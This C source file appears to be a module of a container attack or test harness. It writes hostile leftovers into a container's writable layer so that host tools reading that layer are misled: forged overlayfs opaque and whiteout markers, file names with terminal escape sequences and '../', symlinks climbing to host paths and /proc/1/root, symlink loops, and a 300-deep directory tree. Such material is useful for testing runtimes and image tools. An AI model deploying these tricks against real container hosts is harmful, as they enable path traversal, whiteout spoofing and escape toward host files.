/* What a container may leave in its writable layer for those who read it: below the directory given. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attacker.h"

static int enter(const char *directory)
{
	return mkdir(directory, 0755) < 0 && errno != EEXIST ? -errno : outcome(chdir(directory));
}

static int mark(const char *directory)
{
	static const char *const marks[] = { "user.overlay.opaque", "user.overlay.whiteout",
					     "user.overlay.redirect", "trusted.overlay.opaque" };
	int set = 0;

	for (size_t i = 0; i < sizeof(marks) / sizeof(*marks); i++)
		set += setxattr(directory, marks[i], "y", 1, 0) == 0;
	/* a change, so that the directory is in the layer */
	if (enter(directory) < 0 || mknod("own", S_IFREG | 0644, 0) < 0)
		return -errno;
	return set > 0 ? 0 : -EOPNOTSUPP;
}

static int names(const char *directory)
{
	int err = enter(directory);

	if (err < 0)
		return err;
	mkdir("\xff\xfe\n\x1b[2J", 0755);
	mknod("../x", S_IFREG | 0644, 0);
	mknod(".wh.etc", S_IFREG | 0644, 0);
	mknod(".wh..wh..opq", S_IFREG | 0644, 0);
	return outcome(mkfifo("fifo", 0644));
}

static int links(const char *target)
{
	char climbing[600];
	int err = enter("/left/links");

	if (err < 0)
		return err;
	snprintf(climbing, sizeof(climbing), "../../../../../../../../../..%s", target);
	err = symlink(target, "absolute") | symlink(climbing, "climbing") | symlink("b", "a") |
	      symlink("a", "b") | symlink(".", "itself") | symlink("/proc/1/root", "pid-1");
	return err < 0 ? -errno : 0;
}

static int deep(const char *directory)
{
	int err = enter(directory);

	for (int i = 0; !err && i < 300; i++)
		err = enter("dddddddd");
	return err;
}

/* A directory that lies in the root already, then a directory of the host. */
static void leavings(char **args)
{
	mkdir("/left", 0755);
	attempt("marks of an overlay", mark, args[0]);
	attempt("names of any bytes", names, "/left/names");
	attempt("links to the host", links, args[1]);
	attempt("a deep tree", deep, "/left/deep");
}

const struct idea leavings_ideas[] = { { "leavings", leavings }, { NULL, NULL } };
